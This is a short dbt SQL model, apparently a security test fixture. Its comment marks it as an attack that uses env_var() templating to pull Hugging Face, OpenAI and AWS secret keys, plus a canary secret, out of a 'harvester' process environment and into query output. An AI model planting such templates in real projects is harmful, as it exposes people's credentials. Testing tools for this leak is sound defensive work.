-- attack: read tokens the harvester's process holds through dbt's env_var()
select
    '{{ env_var("HF_TOKEN", "absent") }}' as hf_token,
    '{{ env_var("OPENAI_API_KEY", "absent") }}' as openai_key,
    '{{ env_var("AWS_SECRET_ACCESS_KEY", "absent") }}' as aws_secret,
    '{{ env_var("HARVEST_CANARY_SECRET", "absent") }}' as canary
